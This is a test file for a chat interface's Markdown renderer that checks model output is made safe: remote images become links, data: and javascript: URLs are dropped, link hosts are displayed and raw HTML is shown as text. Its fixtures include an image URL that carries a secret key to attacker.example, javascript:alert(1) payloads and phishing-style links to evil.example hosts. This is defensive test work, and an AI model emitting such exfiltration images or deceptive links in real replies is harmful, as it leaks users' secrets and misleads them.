// @vitest-environment happy-dom
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '../../../../components/chat/Markdown';

afterEach(cleanup);

describe('Markdown from the model', () => {
  it('turns remote images into links, so nothing loads without a click', () => {
    const { container } = render(
      <Markdown text={'Here: ![chart](https://attacker.example/p.png?d=sk-secret) done'} />,
    );
    expect(container.querySelector('img')).toBeNull();
    const link = container.querySelector('a.image-link');
    expect(link?.getAttribute('href')).toBe('https://attacker.example/p.png?d=sk-secret');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.textContent).toBe('[chart] (attacker.example)');
  });

  it('shows only the alt text of images that are not web URLs, data: included', () => {
    const { container } = render(
      <Markdown
        text={'![pixel](data:image/png;base64,iVBORw0KGgo=) ![script](javascript:alert(1))'}
      />,
    );
    expect(container.querySelector('img')).toBeNull();
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toContain('[pixel]');
    expect(container.textContent).toContain('[script]');
  });

  it('shows where a link goes beside its words, and makes links only of http(s) addresses', () => {
    const { container } = render(
      <Markdown
        text={
          'Log in at [your bank](https://evil.example/login?d=1), see https://docs.example/a, ' +
          '[mail me](mailto:a@b.example) or [run](javascript:alert(1)) or [here](/relative).'
        }
      />,
    );
    const links = [...container.querySelectorAll('a')];
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['your bank', 'https://evil.example/login?d=1'],
      ['https://docs.example/a', 'https://docs.example/a'],
    ]);
    expect(links[0]?.getAttribute('rel')).toBe('noreferrer noopener');
    expect(container.textContent).toContain('your bank (evil.example)');
    // An address written out says where it goes already.
    expect(container.textContent).not.toContain('(docs.example)');
    expect(container.textContent).toContain('mail me or run or here.');
  });

  it('names the real host of an address that hides it behind a user name, even written out', () => {
    const hiding = 'http://news.localhost@evil.localhost:4000/collect?d=1';
    const { container } = render(
      <Markdown text={`See ${hiding} or [the news](https://news.example:pw@evil.example/).`} />,
    );
    expect(container.textContent).toBe(
      `See ${hiding} (evil.localhost:4000) or the news (evil.example).`,
    );
  });

  it('renders raw HTML as text, never as elements', () => {
    const { container } = render(
      <Markdown
        text={'<img src="https://attacker.example/x.png"> <iframe src="https://a.example">'}
      />,
    );
    expect(container.querySelector('img, iframe')).toBeNull();
  });
});
